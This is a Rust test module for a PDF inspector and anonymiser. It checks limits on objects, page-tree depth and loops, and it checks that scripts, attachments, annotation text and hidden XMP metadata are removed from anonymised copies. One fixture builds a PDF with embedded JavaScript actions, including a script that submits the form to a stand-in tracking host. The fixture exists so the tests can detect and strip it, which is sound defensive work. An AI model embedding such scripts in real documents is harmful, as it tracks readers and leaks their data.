    #[test]
    fn too_many_objects_are_refused() {
        let (_d, p) = write(&sample(60, "long", None));
        let few = Limits { max_objects: 100, ..L };
        assert!(matches!(inspect(&p, &few), Err(PdfError::TooComplex(_))));
        assert_eq!(inspect(&p, &L).unwrap().pages, 60);
    }

    /// `sample(pages)` whose page tree says `/Count 1`.
    fn lying_count(pages: u32) -> Vec<u8> {
        altered(pages, None, |doc| {
            let root = doc.catalog().unwrap().get(b"Pages").unwrap().as_reference().unwrap();
            doc.get_dictionary_mut(root).unwrap().set("Count", 1);
        })
    }

    #[test]
    fn pages_are_counted_in_the_tree_not_taken_from_count() {
        let file = lying_count(30);
        assert_eq!(lopdf::Document::load_metadata_mem(&file).unwrap().page_count, 1, "the file lies");
        let (_d, p) = write(&file);
        assert_eq!(inspect(&p, &L).unwrap().pages, 30);
        assert_eq!(check_upload(&p, &L).unwrap().pages, 30);
    }

    #[test]
    fn page_tree_loops_and_depth_are_bounded() {
        // A page tree that lists itself among its kids.
        let looped = altered(2, None, |doc| {
            let root = doc.catalog().unwrap().get(b"Pages").unwrap().as_reference().unwrap();
            let kids = doc
                .get_dictionary_mut(root)
                .unwrap()
                .get_mut(b"Kids")
                .unwrap()
                .as_array_mut()
                .unwrap();
            kids.push(root.into());
        });
        let (_d, p) = write(&looped);
        assert!(matches!(inspect(&p, &L), Err(PdfError::Damaged(_))));
        // A chain of 80 intermediate nodes above the single page.
        let deep = altered(1, None, |doc| {
            use lopdf::dictionary;
            let mut top = doc.catalog().unwrap().get(b"Pages").unwrap().as_reference().unwrap();
            for _ in 0..80 {
                top = doc.add_object(dictionary! { "Type" => "Pages", "Kids" => vec![top.into()], "Count" => 1 });
            }
            doc.catalog_mut().unwrap().set("Pages", top);
        });
        let (_d, p) = write(&deep);
        assert!(matches!(inspect(&p, &L), Err(PdfError::TooComplex(_))));
        assert_eq!(inspect(&p, &Limits { max_tree_depth: 100, ..L }).unwrap().pages, 1);
    }

    /// A PDF that names "Li Hua" where the first anonymiser did not look and carries scripts:
    /// a compressed XMP packet with no `/Type` or `/Subtype`, annotation text and rich text,
    /// a JavaScript `/OpenAction`, page and link actions, a document-level script and an
    /// embedded file.
    fn scripted() -> Vec<u8> {
        use lopdf::{Stream, dictionary};
        altered(2, Some("Li Hua"), |doc| {
            let xmp = br#"<?xpacket begin="" id="x"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>Li Hua</dc:creator></x:xmpmeta><?xpacket end="w"?>"#;
            let mut packet = Stream::new(dictionary! {}, xmp.to_vec());
            packet.compress().unwrap();
            let packet = doc.add_object(packet);
            let js = |code: &str| dictionary! { "S" => "JavaScript", "JS" => Object::string_literal(code) };
            let open = doc.add_object(js("app.alert('Li Hua wrote this')"));
            let doc_script = doc.add_object(js("this.submitForm('https://li-hua.example/track')"));
            let attachment = doc.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"Li Hua's data".to_vec()));
            let names = doc.add_object(dictionary! {
                "JavaScript" => dictionary! { "Names" => vec![Object::string_literal("init"), doc_script.into()] },
                "EmbeddedFiles" => dictionary! { "Names" => vec![Object::string_literal("data.txt"), dictionary! { "Type" => "Filespec", "EF" => dictionary! { "F" => attachment } }.into()] },
            });
            let catalog = doc.catalog_mut().unwrap();
            catalog.set("OpenAction", open);
            catalog.set("Names", names);
            catalog.set("PrivateData", packet);
            let rect = || vec![100.into(), 100.into(), 120.into(), 120.into()];
            let pages = doc.get_pages();
            let page1 = doc.get_dictionary_mut(pages[&1]).unwrap();
            page1.set("AA", dictionary! { "O" => js("app.alert('page opened')") });
            page1.set(
                "Annots",
                vec![
                    Object::Dictionary(dictionary! {
                        "Type" => "Annot", "Subtype" => "FreeText", "Rect" => rect(),
                        "Contents" => Object::string_literal("Li Hua, Uni A"),
                        "RC" => Object::string_literal("<body><p>Li Hua</p></body>"),
                    }),
                    Object::Dictionary(dictionary! {
                        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
                        "A" => js("app.launchURL('https://li-hua.example')"),
                    }),
                    Object::Dictionary(dictionary! {
                        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
                        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal("https://doi.org/10.1000/1") },
                    }),
                ],
            );
        })
    }

    /// Every stream decompressed, as text: what a reader of the file could find.
    fn plain_text(bytes: &[u8]) -> Vec<u8> {
        let mut doc = lopdf::Document::load_mem(bytes).unwrap();
        doc.decompress();
        let mut plain = Vec::new();
        doc.save_to(&mut plain).unwrap();
        plain
    }

    #[test]
    fn the_copy_has_no_scripts_attachments_annotation_text_or_hidden_xmp() {
        let original = scripted();
        assert!(
            contains(&plain_text(&original), "dc:creator"),
            "the fixture hides XMP in a compressed stream"
        );
        let (_d, p) = write(&original);
        let copy = anonymised(&p, &L).unwrap();
        let plain = plain_text(&copy);
        for gone in [
            "Li Hua",
            "xmpmeta",
            "JavaScript",
            "/JS",
            "/AA",
            "/OpenAction",
            "EmbeddedFile",
            "/RC",
            "li-hua.example",
        ] {
            assert!(!contains(&plain, gone), "{gone} is left: {}", String::from_utf8_lossy(&plain));
        }
        // The annotations stay, and so does the harmless link.
        let reread = lopdf::Document::load_mem(&copy).unwrap();
        let pages = reread.get_pages();
        assert_eq!(pages.len(), 2);
        assert_eq!(reread.get_page_annotations(pages[&1]).unwrap().len(), 3);
        assert!(contains(&plain, "doi.org/10.1000/1"));
    }

    #[test]
    fn an_info_dictionary_that_is_the_page_tree_is_not_dropped_with_the_metadata() {
        let file = altered(3, None, |doc| {
            let root = doc.catalog().unwrap().get(b"Pages").unwrap().as_reference().unwrap();
            doc.get_dictionary_mut(root)
                .unwrap()
                .set("Author", Object::string_literal("Li Hua"));
            doc.trailer.set("Info", root);
        });
        let (_d, p) = write(&file);
        let info = check_upload(&p, &L).unwrap();
        assert_eq!((info.pages, info.author.as_deref()), (3, Some("Li Hua")));
        let copy = anonymised(&p, &L).unwrap();
        let (_d2, q) = write(&copy);
        assert_eq!(inspect(&q, &L).unwrap().pages, 3);
        assert!(!contains(&plain_text(&copy), "Li Hua"));
    }

    #[test]
    fn anonymising_refuses_what_is_not_a_pdf() {
        let (_d, p) = write(b"PK\x03\x04 this is a zip");
        assert_eq!(anonymised(&p, &L), Err(PdfError::NotPdf));
        let (_d, p) = write(b"%PDF-1.7\n garbage garbage garbage");
        assert!(matches!(anonymised(&p, &L), Err(PdfError::Damaged(_))));
    }

    #[test]
    fn refuses_other_formats_and_broken_pdfs() {
        let (_d, p) = write(b"PK\x03\x04 this is a zip");
        assert_eq!(inspect(&p, &L), Err(PdfError::NotPdf));
        let (_d, p) = write(b"%PDF-1.7\n garbage garbage garbage");
        assert!(matches!(inspect(&p, &L), Err(PdfError::Damaged(_))));
        let mut truncated = sample(2, "cut", None);
        truncated.truncate(truncated.len() / 3);
        let (_d, p) = write(&truncated);
        assert!(inspect(&p, &L).is_err(), "a truncated PDF is refused");
    }
}
